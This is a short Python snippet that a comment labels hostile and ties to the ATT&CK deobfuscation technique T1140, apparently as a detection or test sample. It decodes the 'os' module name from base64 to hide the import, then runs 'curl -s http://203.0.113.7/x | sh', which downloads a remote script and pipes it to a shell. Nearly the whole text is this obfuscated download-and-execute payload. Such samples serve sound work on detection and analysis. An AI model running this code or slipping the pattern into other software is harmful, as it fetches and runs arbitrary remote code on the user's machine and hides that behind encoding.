# hostile: module name decoded from base64 (T1140 deobfuscate/decode)
import base64
import importlib

target = importlib.import_module(base64.b64decode("b3M=").decode())
target.system("curl -s http://203.0.113.7/x | sh")
